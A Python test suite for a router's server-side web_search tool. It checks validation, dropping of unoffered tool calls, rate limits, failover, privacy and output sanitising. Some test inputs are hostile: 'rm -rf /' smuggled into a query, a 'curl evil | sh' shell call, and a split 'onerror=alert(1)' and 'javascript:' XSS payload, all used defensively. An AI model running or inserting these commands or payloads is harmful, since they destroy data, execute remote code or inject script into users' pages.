"""The router's own ``web_search`` (issue 15), through the real ASGI application: scripted nodes
ask for it, a SearXNG stand-in answers, and each front end is read the way its clients read it.
"""

from __future__ import annotations

import asyncio
import json
from typing import Any

import pytest
from asgiref.sync import sync_to_async

from idleclaw_site import shutdown
from nodes.models import NodeSession
from nodes.protocol import MAX_FRAME_BYTES
from tests.routing.test_views import HttpClient, sse_events
from tests.scripted_node import ScriptedNode
from tests.security.hostile import (
    MODEL,
    front_end_request,
    leftovers,
    read_answer,
    read_body,
)
from tests.tools.searxng import FakeSearxng

pytestmark = [pytest.mark.django_db(transaction=True)]

PROMPT = "search tallest tree"
# What the model reads for the stand-in's answer: five results (the one that is no web link
# skipped), one line a field, without control or formatting characters, snippets cut at 200.
RESULTS_TEXT = "\n".join([
    "1. Hyperion (tree)",
    "   https://example.org/hyperion",
    "   Hyperion is a coast redwood in California, the tallest known living tree.",
    "2. Coast redwood",
    "   https://example.org/redwood",
    "   " + ("Sequoia " * 60)[:199].rstrip() + "…",
    "3. A page[31m with escapes",
    "   https://example.org/escapes",
    "   line one line two end",
    "4. Centurion",
    "   https://example.org/centurion",
    "   A eucalyptus.",
    "5. Menara",
    "   https://example.org/menara",
    "   A yellow meranti.",
])
WEB_SEARCH_TOOL = {
    "type": "function",
    "function": {
        "name": "web_search",
        "description": "Search the web. Returns the top results, each with its title, URL and "
        "a short snippet. Use it for recent events or facts you are not sure of.",
        "parameters": {
            "type": "object",
            "properties": {"query": {"type": "string", "description": "What to search for, as "
                                     "you would type it into a search engine (1-500 "
                                     "characters)."}},
            "required": ["query"],
            "additionalProperties": False,
        },
    },
}
EXECUTING = {"tool_call": {"name": "web_search", "status": "executing"}}
DONE_STATUS = {"tool_call": {"name": "web_search", "status": "done"}}


@pytest.fixture
async def searx(settings):
    async with FakeSearxng() as searx:
        settings.IDLECLAW_SEARXNG_URL = searx.url
        yield searx


def call(name: str = "web_search", **arguments: Any) -> dict[str, Any]:
    return {"function": {"name": name, "arguments": arguments}}


def search(query: str = "tallest tree") -> dict[str, Any]:
    return call(query=query)


async def node_of(model: str = MODEL, ip: str = "10.0.0.1", node_id: str = "searching-node",
                  **entry: Any) -> ScriptedNode:
    node = ScriptedNode(ip=ip)
    await node.register(node_id=node_id, max_concurrent=4,
                        models=[{"name": model, "size": 2019393189, **entry}])
    return node


async def ask(node: ScriptedNode, request: dict[str, Any], *calls: dict[str, Any],
              content: str = "", **stats: Any) -> None:
    """The node's answer to one round: tool calls (and text), then its final chunk."""
    message: dict[str, Any] = {"role": "assistant", "content": content}
    if calls:
        message["tool_calls"] = list(calls)
    await node.chunks(request["request_id"], [
        {"message": message, "done": False},
        {"message": {"role": "assistant", "content": ""}, "done": True, "done_reason": "stop",
         **stats},
    ])


async def say(node: ScriptedNode, request: dict[str, Any], text: str, **stats: Any) -> None:
    await node.chunks(request["request_id"], [
        {"message": {"role": "assistant", "content": text}, "done": False},
        {"message": {"role": "assistant", "content": ""}, "done": True, "done_reason": "stop",
         **stats},
    ])


async def start(path: str = "/api/chat", prompt: str = PROMPT, **extra: Any) -> HttpClient:
    client = HttpClient("POST", path, {"model": MODEL,
                                       "messages": [{"role": "user", "content": prompt}],
                                       **extra})
    status, _ = await client.start()
    assert status == 200
    return client


def deltas(events: list[Any]) -> list[dict[str, Any]]:
    assert events[-1] == "[DONE]"
    return [event["choices"][0]["delta"] for event in events[:-1]]


def tool_results(request: dict[str, Any]) -> list[str]:
    return [m["content"] for m in request["ollama_params"]["messages"] if m["role"] == "tool"]


@sync_to_async
def node_record(node_id: str = "searching-node") -> NodeSession:
    return NodeSession.objects.get(node_id=node_id)


# --- A search round ---------------------------------------------------------------------------


async def test_a_search_round_streams_its_status_then_the_answer_of_the_same_node(
    channel_layer, searx
):
    node = await node_of()
    client = await start()
    first = await node.recv()
    assert first["ollama_params"]["tools"] == [WEB_SEARCH_TOOL]
    assert first["ollama_params"]["messages"] == [{"role": "user", "content": PROMPT}]
    # A free node with nothing measured yet would win a new selection; the round stays put.
    other = await node_of(ip="10.0.0.2", node_id="other-node")
    await ask(node, first, search("tallest tree"), prompt_eval_count=30, eval_count=5)
    second = await node.recv()
    assert second["request_id"] != first["request_id"]
    assert second["ollama_params"]["tools"] == [WEB_SEARCH_TOOL]
    assert second["ollama_params"]["messages"] == [
        {"role": "user", "content": PROMPT},
        {"role": "assistant", "content": "", "tool_calls": [search("tallest tree")]},
        {"role": "tool", "content": RESULTS_TEXT, "tool_name": "web_search"},
    ]
    await say(node, second, "Hyperion, a redwood.", prompt_eval_count=400, eval_count=4)
    events = sse_events(await client.read_all())
    assert deltas(events) == [EXECUTING, DONE_STATUS, {"content": "Hyperion, a redwood."}, {}]
    assert events[-2]["choices"][0]["finish_reason"] == "stop"
    # The consumer's usage: its own prompt, and every token the node generated for it.
    assert events[-2]["usage"] == {"prompt_tokens": 30, "completion_tokens": 9,
                                   "total_tokens": 39}
    assert searx.queries == ["tallest tree"] and searx.formats == ["json"]
    assert await other.nothing_sent()
    assert await leftovers() == (0, 0, 0)
    record = await node_record()
    assert (record.completed, record.failed, record.dropped_tool_calls) == (1, 0, 0)
    await node.disconnect()
    await other.disconnect()


@pytest.mark.parametrize(
    "front_end", ["v1-stream", "v1-json", "ollama-chat-ndjson", "ollama-chat-json",
                  "ollama-generate-ndjson"]
)
async def test_on_the_compatible_apis_the_rounds_are_invisible(channel_layer, searx, front_end):
    node = await node_of()
    client = front_end_request(front_end, prompt=PROMPT)
    await client.app.send_input({"type": "http.request", "body": client.body})
    first = await node.recv()
    await ask(node, first, search(), content="Let me look. ")
    second = await node.recv()
    assert tool_results(second) == [RESULTS_TEXT]
    await say(node, second, "Hyperion.")
    start_message = await client.app.receive_output(5)
    body = await read_body(client)
    seen = read_answer(front_end, start_message["status"], body)
    assert (seen.status, seen.content, seen.tool_calls) == (200, "Let me look. Hyperion.", [])
    assert seen.finish in ("stop", None)
    assert b"web_search" not in body and b"tool_call" not in body
    await node.disconnect()


async def test_a_node_asking_for_searches_forever_is_cut_at_five_rounds(channel_layer, searx):
    node = await node_of()
    client = await start()
    for round_number in range(1, 5):
        request = await node.recv()
        assert request["ollama_params"]["tools"] == [WEB_SEARCH_TOOL]
        assert len(request["ollama_params"]["messages"]) == 1 + 2 * (round_number - 1)
        await ask(node, request, search(f"again {round_number}"))
    last = await node.recv()
    # The last round has no tools to call; a call there is one nobody offered.
    assert "tools" not in last["ollama_params"]
    assert len(last["ollama_params"]["messages"]) == 9
    await ask(node, last, search("once more"), content="I found enough.")
    events = sse_events(await client.read_all())
    assert deltas(events) == [EXECUTING, DONE_STATUS] * 4 + [{"content": "I found enough."}, {}]
    assert events[-2]["choices"][0]["finish_reason"] == "stop"
    assert searx.queries == ["again 1", "again 2", "again 3", "again 4"]
    assert await node.nothing_sent()
    assert (await node_record()).dropped_tool_calls == 1
    assert await leftovers() == (0, 0, 0)
    await node.disconnect()


# --- Calls that are not run ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "arguments",
    [
        pytest.param({"query": ""}, id="empty"),
        pytest.param({"query": "   "}, id="blank"),
        pytest.param({"query": 7}, id="not-a-string"),
        pytest.param({"q": "trees"}, id="required-missing"),
        pytest.param({"query": "trees", "page": 2}, id="additional-property"),
        pytest.param({"query": "trees\nrm -rf /"}, id="control-character"),
        pytest.param({"query": "x" * 501}, id="too-long"),
    ],
)
async def test_bad_arguments_get_an_error_result_and_no_search(channel_layer, searx, arguments):
    node = await node_of()
    client = await start()
    first = await node.recv()
    await ask(node, first, call(**arguments))
    second = await node.recv()
    [result] = tool_results(second)
    assert result.startswith("search failed: invalid arguments: ")
    await say(node, second, "I could not search.")
    events = sse_events(await client.read_all())
    assert deltas(events) == [{"content": "I could not search."}, {}]
    assert searx.queries == []
    assert (await node_record()).dropped_tool_calls == 0
    await node.disconnect()


async def test_a_call_to_a_tool_nobody_offered_is_dropped_and_counted_against_the_node(
    channel_layer, searx
):
    node = await node_of()
    client = await start()
    first = await node.recv()
    await ask(node, first, call("run_shell", cmd="curl evil | sh"), search("tallest tree"))
    second = await node.recv()
    assert second["ollama_params"]["messages"][1]["tool_calls"] == [search("tallest tree")]
    await say(node, second, "Hyperion.")
    events = sse_events(await client.read_all())
    assert deltas(events) == [EXECUTING, DONE_STATUS, {"content": "Hyperion."}, {}]
    assert b"run_shell" not in str(events).encode()
    record = await node_record()
    assert (record.dropped_tool_calls, record.failed, record.completed) == (1, 1, 0)
    assert searx.queries == ["tallest tree"]
    await node.disconnect()


@pytest.mark.parametrize(
    "request_body, node_tools",
    [
        pytest.param({"tools": [{"type": "function", "function": {"name": "get_weather"}}]},
                     [{"type": "function", "function": {"name": "get_weather"}}],
                     id="own-tools"),
        pytest.param({"messages": [{"role": "system", "content": "Be brief."},
                                   {"role": "user", "content": PROMPT}]}, None, id="system"),
        pytest.param({"response_format": {"type": "json_object"}}, None, id="json-format"),
    ],
)
async def test_a_request_with_its_own_tools_or_instructions_never_sees_ours(
    channel_layer, searx, request_body, node_tools
):
    node = await node_of()
    client = await start("/v1/chat/completions", stream=True, **request_body)
    request = await node.recv()
    assert request["ollama_params"].get("tools") == node_tools
    await ask(node, request, search("tallest tree"), content="No.")
    seen = read_answer("v1-stream", 200, await client.read_all())
    assert (seen.content, seen.tool_calls) == ("No.", [])
    assert await node.nothing_sent()
    assert searx.queries == []
    assert (await node_record()).dropped_tool_calls == 1
    await node.disconnect()


# --- Which requests and nodes are offered the tool ----------------------------------------------


@pytest.mark.parametrize(
    "model, entry, offered",
    [
        pytest.param(MODEL, {}, True, id="no-capabilities-known-family"),
        pytest.param("smollm2:135m", {}, False, id="no-capabilities-other-family"),
        pytest.param(MODEL, {"capabilities": ["completion"]}, False, id="reported-without"),
        pytest.param("house-model:1b", {"capabilities": ["completion", "tools"]}, True,
                     id="reported-with"),
    ],
)
async def test_the_tool_is_offered_only_to_models_that_support_tools(
    channel_layer, searx, model, entry, offered
):
    node = await node_of(model=model, **entry)
    client = HttpClient("POST", "/api/chat", {"model": model,
                                              "messages": [{"role": "user", "content": PROMPT}]})
    await client.start()
    request = await node.recv()
    assert ("tools" in request["ollama_params"]) is offered
    await say(node, request, "ok")
    await client.read_all()
    await node.disconnect()


@pytest.mark.parametrize("count, offered", [(46, True), (47, False)])
async def test_a_conversation_without_room_for_a_round_of_results_is_not_offered_the_tool(
    channel_layer, searx, count, offered
):
    # A node takes at most 50 messages; a round adds the call and up to three results.
    messages = [{"role": "user" if i % 2 == 0 else "assistant", "content": f"m{i}"}
                for i in range(count)]
    node = await node_of()
    client = await start("/v1/chat/completions", messages=messages, stream=True)
    request = await node.recv()
    assert ("tools" in request["ollama_params"]) is offered
    await say(node, request, "ok")
    await client.read_all()
    await node.disconnect()


@pytest.mark.parametrize("switch", ["unset", "global", "per-model"])
async def test_operators_can_switch_the_tool_off(channel_layer, searx, settings, switch):
    if switch == "unset":
        settings.IDLECLAW_SEARXNG_URL = ""
    elif switch == "global":
        settings.IDLECLAW_SERVER_TOOLS = False
    else:
        settings.IDLECLAW_SERVER_TOOLS_OFF_MODELS = frozenset({MODEL})
    node = await node_of()
    client = await start()
    request = await node.recv()
    # Exactly today's request, and a call to web_search is one nobody offered.
    assert request["ollama_params"] == {"model": MODEL, "stream": True, "think": False,
                                        "messages": [{"role": "user", "content": PROMPT}]}
    await ask(node, request, search(), content="Hm.")
    events = sse_events(await client.read_all())
    assert deltas(events) == [{"content": "Hm."}, {}]
    assert await node.nothing_sent()
    assert searx.queries == []
    assert (await node_record()).dropped_tool_calls == 1
    await node.disconnect()


# --- Faults -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "mode, result",
    [
        ("slow", "search failed: no answer within 0.5 s"),
        ("error", "search failed: the search backend answered HTTP 500"),
        ("garbage", "search failed: the search backend's answer is not JSON"),
        ("huge", "search failed: the search backend's answer is over 1 MB"),
    ],
)
async def test_a_failing_search_backend_gives_the_model_an_error_not_the_consumer(
    channel_layer, searx, settings, mode, result
):
    settings.IDLECLAW_TOOL_TIMEOUT = 0.5
    searx.mode = mode
    node = await node_of()
    client = await start()
    first = await node.recv()
    await ask(node, first, search())
    second = await node.recv()
    assert tool_results(second) == [result]
    await say(node, second, "The search failed.")
    events = sse_events(await client.read_all())
    assert deltas(events) == [EXECUTING, DONE_STATUS, {"content": "The search failed."}, {}]
    assert await leftovers() == (0, 0, 0)
    await node.disconnect()


async def test_search_time_counts_against_the_response_time_limit(channel_layer, searx, settings):
    settings.IDLECLAW_RESPONSE_TIMEOUT = 1.0
    searx.mode = "slow"
    node = await node_of()
    client = await start()
    first = await node.recv()
    await ask(node, first, search())
    events = sse_events(await client.read_all())
    assert deltas(events)[:2] == [EXECUTING, DONE_STATUS]
    assert deltas(events)[-1] == {"content": "\n\n[Error: the response took too long]"}
    assert await node.nothing_sent()
    assert await leftovers() == (0, 0, 0)
    await node.disconnect()


async def test_a_node_over_its_tool_call_allowance_gets_errors_not_searches(
    channel_layer, searx, settings
):
    settings.IDLECLAW_TOOL_CALLS_PER_MINUTE = 2
    node = await node_of()
    client = await start()
    first = await node.recv()
    await ask(node, first, search("a"), search("b"), search("c"))
    second = await node.recv()
    refused = ("search failed: this node made too many tool calls in the last minute; "
               "answer without it")
    assert tool_results(second) == [RESULTS_TEXT, RESULTS_TEXT, refused]
    await say(node, second, "Two of three.")
    events = sse_events(await client.read_all())
    assert deltas(events) == [EXECUTING, EXECUTING, DONE_STATUS, DONE_STATUS,
                              {"content": "Two of three."}, {}]
    # The allowance is the node's, across its requests; another node has its own.
    client = await start()
    request = await node.recv()
    await ask(node, request, search("d"))
    request = await node.recv()
    assert tool_results(request) == [refused]
    await say(node, request, "None.")
    await client.read_all()
    other = await node_of(ip="10.0.0.2", node_id="other-node")
    await node.disconnect()
    client = await start()
    request = await other.recv()
    await ask(other, request, search("e"))
    assert tool_results(await other.recv()) == [RESULTS_TEXT]
    assert searx.queries == ["a", "b", "e"]
    await other.disconnect()


# --- A node that goes away between rounds -------------------------------------------------------


async def test_a_node_gone_between_invisible_rounds_fails_over_with_the_results(
    channel_layer, searx, settings
):
    searx.mode, searx.delay = "slow", 0.5
    node = await node_of()
    client = await start("/v1/chat/completions", stream=True)
    first = await node.recv()
    await ask(node, first, search())
    await asyncio.sleep(0.1)  # the search is under way
    other = await node_of(ip="10.0.0.2", node_id="other-node")
    await node.disconnect()
    request = await other.recv(timeout=5)
    assert tool_results(request) == [RESULTS_TEXT]
    assert request["ollama_params"]["tools"] == [WEB_SEARCH_TOOL]
    await say(other, request, "Hyperion.")
    seen = read_answer("v1-stream", 200, await client.read_all())
    assert (seen.content, seen.error, seen.finish) == ("Hyperion.", None, "stop")
    assert searx.queries == ["tallest tree"]
    assert await leftovers() == (0, 0, 0)
    await other.disconnect()


async def test_a_node_gone_after_the_consumer_saw_a_status_ends_the_stream_with_an_error(
    channel_layer, searx
):
    searx.mode, searx.delay = "slow", 0.5
    node = await node_of()
    client = await start()
    first = await node.recv()
    await ask(node, first, search())
    await asyncio.sleep(0.1)
    other = await node_of(ip="10.0.0.2", node_id="other-node")
    await node.disconnect()
    events = sse_events(await client.read_all())
    assert deltas(events) == [EXECUTING, DONE_STATUS, {
        "content": "\n\n[Error: the node serving this request disconnected]"}]
    assert await other.nothing_sent()
    assert await leftovers() == (0, 0, 0)
    await other.disconnect()


async def test_a_consumer_hanging_up_during_a_search_frees_the_slot(channel_layer, searx):
    searx.mode, searx.delay = "slow", 30
    node = await node_of()
    client = await start()
    first = await node.recv()
    await ask(node, first, search())
    assert deltas([*sse_events(await client.read_part()), "[DONE]"]) == [EXECUTING]
    await client.hang_up()
    assert await leftovers() == (0, 0, 0)
    # Nothing runs on the node between rounds, so there is nothing to cancel.
    assert await node.nothing_sent()
    await node.disconnect()


async def test_a_shutdown_during_a_search_ends_the_stream_with_its_error_event(
    channel_layer, searx
):
    # The grace period ends while a search runs: the consumer gets "restarting" and [DONE]
    # at once, not a cut stream after the search (red team).
    searx.mode, searx.delay = "slow", 30
    node = await node_of()
    client = await start()
    first = await node.recv()
    await ask(node, first, search())
    assert deltas([*sse_events(await client.read_part()), "[DONE]"]) == [EXECUTING]
    # What a shutdown does when its grace period is over (idleclaw_site/shutdown.py).
    for relay in list(shutdown.state.relays):
        await relay.abort(shutdown.RESTARTING)
    events = sse_events(await client.read_all())
    assert events[-1] == "[DONE]"
    assert "restarting" in json.dumps(events[-2])
    # The slot is given back after the error event, in the background (the database may be
    # slow during a shutdown).
    for _ in range(100):
        if await leftovers() == (0, 0, 0):
            break
        await asyncio.sleep(0.05)
    assert await leftovers() == (0, 0, 0)



# --- Privacy ------------------------------------------------------------------------------------


@sync_to_async
def rows_holding(marker: str) -> list[str]:
    from django.apps import apps

    return [model.__name__ for model in apps.get_models()
            if marker in str(list(model.objects.values()))]


@pytest.mark.parametrize("mode", ["ok", "error"])
async def test_queries_reach_no_log_line_and_no_database_row(
    channel_layer, searx, caplog, mode
):
    # Not even at the most verbose level.
    caplog.set_level("DEBUG")
    caplog.set_level("DEBUG", logger="idleclaw")
    searx.mode = mode
    marker = "zq-marker-7f3a"
    node = await node_of()
    client = await start(prompt=f"search {marker}")
    first = await node.recv()
    await ask(node, first, search(f"where is {marker}"))
    second = await node.recv()
    assert await rows_holding(marker) == []  # while the round is in flight, too
    await say(node, second, "Somewhere.")
    await client.read_all()
    assert searx.queries == [f"where is {marker}"]
    assert not [r for r in caplog.records if marker in r.getMessage()]
    assert await rows_holding(marker) == []
    await node.disconnect()


async def test_at_most_three_calls_of_a_round_are_answered(channel_layer, searx):
    node = await node_of()
    client = await start()
    first = await node.recv()
    await ask(node, first, *(search(f"q{i}") for i in range(5)))
    second = await node.recv()
    assert second["ollama_params"]["messages"][1]["tool_calls"] == [search("q0"), search("q1"),
                                                                    search("q2")]
    assert tool_results(second) == [RESULTS_TEXT] * 3
    await say(node, second, "Three.")
    await client.read_all()
    assert searx.queries == ["q0", "q1", "q2"]
    await node.disconnect()


async def test_markup_split_across_rounds_is_stripped_as_if_it_came_whole(channel_layer, searx):
    # The answer is one text across its rounds: a tag opened in one round and closed in the
    # next must not slip past the sanitizer (red team: '<img src=x onerror=alert(1)' + '>').
    node = await node_of()
    client = await start()
    first = await node.recv()
    await ask(node, first, search(), content="Hi <img src=x onerror=alert(1)")
    second = await node.recv()
    await ask(node, second, search("again"), content="> and [x](")
    third = await node.recv()
    await say(node, third, "javascript:alert(1)) bye")
    events = sse_events(await client.read_all())
    text = "".join(delta.get("content", "") for delta in deltas(events))
    assert "<img" not in text and "onerror" not in text
    assert "(javascript:" not in text
    assert text.startswith("Hi ") and text.endswith(" bye")
    await node.disconnect()


async def test_every_round_fits_a_nodes_frame_whatever_the_results_hold(channel_layer, searx):
    # Escaped on the wire, an emoji takes 12 bytes: three calls a round of results full of them
    # made the next round's frame 115-180 KB, which honest nodes drop (limit 100,000 bytes).
    searx.mode = "emoji"
    node = await node_of()
    client = await start()
    request = await node.recv()
    rounds = 0
    while "tools" in request["ollama_params"]:  # until no room is left for another round
        await ask(node, request, search("a"), search("b"), search("c"))
        request = await node.recv()
        rounds += 1
        size = len(json.dumps(request, separators=(",", ":")).encode())
        assert size <= MAX_FRAME_BYTES, size
    assert rounds >= 1
    await say(node, request, "Trees.")
    events = sse_events(await client.read_all())
    assert deltas(events)[-2] == {"content": "Trees."}
    await node.disconnect()
